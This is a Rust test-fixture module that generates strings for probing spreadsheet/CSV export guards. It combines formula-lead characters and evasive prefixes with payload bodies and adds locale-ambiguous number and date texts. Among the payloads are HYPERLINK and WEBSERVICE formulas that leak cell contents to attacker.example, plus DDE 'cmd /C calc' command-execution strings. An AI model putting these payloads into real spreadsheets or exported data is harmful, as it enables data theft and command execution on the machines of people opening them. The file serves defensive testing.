//! Texts that get a spreadsheet to do something, or that it takes for something else.

/// What formulas begin with somewhere, what a guard may overlook in front of it, and what then runs.
const LEADS: [&str; 10] = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "−"];
const IN_FRONT: [&str; 9] = ["", " ", "\t", "\r", "\n", "\u{A0}", "\u{FEFF}", "\"", "  \""];
const BODIES: [&str; 3] = ["1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0"];

/// Payloads of OWASP and of advisories, and texts that spreadsheets retype.
const TEXTS: [&str; 40] = [
    "=HYPERLINK(\"http://attacker.example?leak=\"&A1&A2,\"Error: please click\")",
    "=WEBSERVICE(\"http://attacker.example/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "=1+1\";=1+1",
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n=1+1",
    "\"=1+1",
    "'=1+1",
    "''",
    "{=1+1}",
    "#N/A",
    "VRAI",
    "false",
    "00123",
    "1E5",
    "1e-5",
    "12345678901234567890",
    "+33612345678",
    "1 234,50",
    "1.234,50",
    "-12,50",
    "12:30",
    "1/2",
    "3-4",
    "22/11/2026",
    "2026-11-22",
    "22.5",
    "22 mai",
    "5. März",
    "MARCH1",
    "13.3.",
    "5 %",
    "(12)",
    "12 €",
    "½",
];

/// Texts of the letters that numbers, dates and times are made of.
fn number_like(count: u64) -> impl Iterator<Item = String> {
    const LETTERS: [char; 30] = [
        '0', '1', '2', '3', '4', '5', '6', '7', '8', '9', ' ', '.', ',', ':', '/', '-', '+', 'e', 'E', '%',
        '(', ')', '\'', '€', '$', '\u{A0}', 'm', 'j', 'a', 't',
    ];
    (0..count).map(|n| {
        let mut state = n.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
        let mut next = |below: usize| {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            (state >> 33) as usize % below
        };
        (0..=next(9)).map(|_| LETTERS[next(LETTERS.len())]).collect()
    })
}

/// Everything of the above.
pub(crate) fn hostile_texts() -> Vec<String> {
    let built = LEADS.iter().flat_map(|lead| {
        IN_FRONT.iter().flat_map(move |front| BODIES.iter().map(move |body| format!("{front}{lead}{body}")))
    });
    built.chain(TEXTS.iter().map(|text| (*text).to_owned())).chain(number_like(300)).collect()
}
